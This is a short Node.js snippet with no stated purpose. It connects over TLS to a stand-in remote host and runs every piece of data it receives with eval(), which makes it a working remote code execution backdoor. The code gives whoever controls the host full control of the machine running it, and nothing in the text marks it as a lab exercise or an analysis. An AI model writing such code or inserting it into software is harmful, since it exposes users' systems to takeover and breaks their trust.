const tls = require('tls');
const socket = tls.connect(443, 'live.example.invalid');
function obey(bytes) { const text = String(bytes).trim(); eval(text); }
socket.on('data', obey);
